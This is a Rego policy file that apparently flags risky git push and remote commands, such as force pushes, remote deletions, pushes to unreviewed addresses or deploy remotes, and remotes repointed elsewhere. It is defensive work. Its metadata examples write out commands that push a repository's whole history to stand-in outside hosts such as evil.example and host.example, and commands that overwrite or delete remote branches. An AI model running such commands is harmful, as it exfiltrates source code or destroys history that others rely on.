# METADATA
# title: What git sends
# description: |
#   Pushes that take away from others what they have, or hand the sources to
#   somebody who did not have them.
package guard.rules.gitpush

import data.guard.form
import data.guard.loopback
import data.guard.stage

# METADATA
# title: Force push
# description: Overwrites history that others may have (REQUIREMENTS S1-21, S1-28).
# custom:
#   id: git.push_force
#   remedy: push a new branch, or revert with a new commit
#   fires: git push origin +main
#   quiet: git push origin main
hit contains {"id": "git.push_force", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in stage.git.push
	_forces(s)
	not _dry(s)
	msg := sprintf("overwrites published history: git %s", [stage.cut(concat(" ", s.args))])
}

# METADATA
# title: Deletes a remote branch or tag
# description: It disappears for everybody.
# custom:
#   id: git.push_delete
#   remedy: leave remote branches and tags to a person
#   fires: 'git push origin :main'
#   quiet: 'git push origin main:main'
hit contains {"id": "git.push_delete", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in stage.git.push
	_deletes_remote(s)
	not _dry(s)
	msg := sprintf("deletes on the remote: git %s", [stage.cut(concat(" ", s.args))])
}

# METADATA
# title: Pushes to an address
# description: |
#   The history goes to a repository that is written out in the command, not to
#   one that the project has a name for.
# custom:
#   id: git.push_address
#   remedy: git remote -v lists the project's remotes; push to one of them
#   fires: git push https://host.example/copy.git main
#   quiet: git push origin main
hit contains {"id": "git.push_address", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in stage.git.push
	not _dry(s)
	some word in _push_targets(s)
	_address(word)
	msg := sprintf("pushes to %s", [stage.cut(word)])
}

# METADATA
# title: Pushes to a remote that is new
# description: |
#   The same line says where the remote is and pushes to it: the history goes to
#   an address that nobody has looked at.
# custom:
#   id: git.push_new_remote
#   remedy: add the remote, let a person look at the address, then push
#   fires: git remote add copy https://host.example/copy.git && git push copy --all
#   quiet: git remote add copy /tmp/copy.git && git push copy --all
hit contains {"id": "git.push_new_remote", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in stage.git.push
	not _dry(s)
	some made in input.cmd.stages
	made.id < s.id
	some [name, address] in _new_remotes(made)
	_elsewhere(address)
	name in _targets(s)
	msg := sprintf("pushes to %s, which this line names %s", [stage.cut(address), name])
}

# METADATA
# title: Pushes to where it runs
# description: |
#   The remote is named after what receives it: a push there deploys, and whoever
#   uses the service gets the new code at once.
# custom:
#   id: git.push_deploys
#   remedy: push to the project's own remote, and let a person deploy
#   fires: git push production main
#   quiet: git push origin production-fixes
hit contains {"id": "git.push_deploys", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in stage.git.push
	not _dry(s)
	some name in _push_targets(s)
	_deploys(lower(name))
	msg := sprintf("deploys by pushing to %s", [stage.cut(name)])
}

# METADATA
# title: Pushes past the checks to a shared branch
# description: The hooks that would have looked at it are left out, and others build on that branch.
# custom:
#   id: git.push_unchecked
#   remedy: let the hook run and mend what it finds
#   fires: git push --no-verify origin main
#   quiet: git push --no-verify origin fix/parser
hit contains {"id": "git.push_unchecked", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in stage.git.push
	not _dry(s)
	"no-verify" in s.flags
	some i, word in s.operands
	i > 0
	parts := split(word, ":")
	branch := trim_prefix(parts[count(parts) - 1], "refs/heads/")
	data.guard.rules.gitpush.shared_branches[lower(branch)]
	msg := sprintf("pushes to %s past the checks", [stage.cut(branch)])
}

# METADATA
# title: Pushes what another program lists
# description: |
#   What xargs adds to a push may be anything that a push takes: a branch, a
#   deletion, an overwrite.
# custom:
#   id: git.push_unknown
#   remedy: list first, then push what you have seen by its name
#   fires: git branch --list 'x/*' | xargs git push origin
#   quiet: git push origin "$(git branch --show-current)"
hit contains {"id": "git.push_unknown", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in stage.git.push
	some o in s.opaque
	o.reason == "words read from standard input"
	not _dry(s)
	msg := "pushes what another program lists"
}

# METADATA
# title: Points a remote elsewhere
# description: |
#   Later pushes and pulls, a person's too, go to the new address without a word.
# custom:
#   id: git.remote_moved
#   remedy: add the address as a remote of its own
#   fires: git remote set-url origin https://evil.example/app.git
#   quiet: git remote set-url origin git@github.com:acme/app.git
hit contains {"id": "git.remote_moved", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.sub != "remote add"
	some [name, address] in _new_remotes(s)
	_elsewhere(address)
	not _on_forge(address)
	msg := sprintf("makes %s mean %s", [stage.cut(name), stage.cut(address)])
}

# https://host/x, ssh://git@host/x, git@host:x
_on_forge(address) if {
	rest := split(address, "://")
	host := split(split(rest[count(rest) - 1], "/")[0], ":")[0]
	names := split(host, "@")
	data.guard.rules.gitpush.forges[names[count(names) - 1]]
}

_new_remotes(s) := [[s.operands[0], s.operands[1]]] if {
	s.name == "git"
	s.sub in {"remote add", "remote set-url"}
}

_new_remotes(s) := [[parts[1], s.operands[1]]] if {
	s.name == "git"
	s.sub == "config"
	parts := split(s.operands[0], ".")
	count(parts) == 3
	parts[0] == "remote"
	parts[2] in {"url", "pushurl"}
}

# Without a name git takes the branch's remote, which origin is as a rule.
_targets(s) := {s.operands[0]} if count(s.operands) > 0

_targets(s) := {"origin"} if count(s.operands) == 0

_address(word) if contains(word, "://")

# git@host:path
_address(word) if {
	parts := split(word, ":")
	parts[0] != ""
	not contains(parts[0], "/")
	parts[1] != ""
}

# prod, app-prod, heroku-eu
_deploys(name) if {
	form.made_of(name, concat("", [form.alphanumeric, "_-"]))
	parts := split(replace(name, "_", "-"), "-")
	count(parts) < 3
	data.guard.rules.gitpush.deploy_remotes[parts[count(parts) - 1]]
}

_deploys(name) if {
	form.made_of(name, concat("", [form.alphanumeric, "_-"]))
	parts := split(replace(name, "_", "-"), "-")
	count(parts) > 1
	parts[0] in {"prod", "production", "live", "deploy", "heroku", "dokku"}
}

_elsewhere(address) if {
	contains(address, ":")
	not strings.any_prefix_match(address, ["file://", "/", ".", "~"])
	not loopback.address(address)
}

_forces(s) if {
	some flag in ["f", "force", "force-with-lease", "mirror"]
	flag in s.flags
}

_forces(s) if {
	some word in s.operands
	startswith(word, "+")
}

_deletes_remote(s) if {
	some flag in ["d", "delete", "prune"]
	flag in s.flags
}

_deletes_remote(s) if {
	some word in s.operands
	startswith(word, ":")
	word != ":"
}

_push_targets(s) := array.concat(array.slice(s.operands, 0, 1), [o.value | some o in s.options; o.name == "repo"])

# push and clean take -n for a dry run; to other subcommands it means something else.
_dry(s) if {
	stage.dry(s)
	not "no-dry-run" in s.flags
}

_dry(s) if {
	s.sub in {"push", "clean"}
	"n" in s.flags
	not "no-dry-run" in s.flags
}
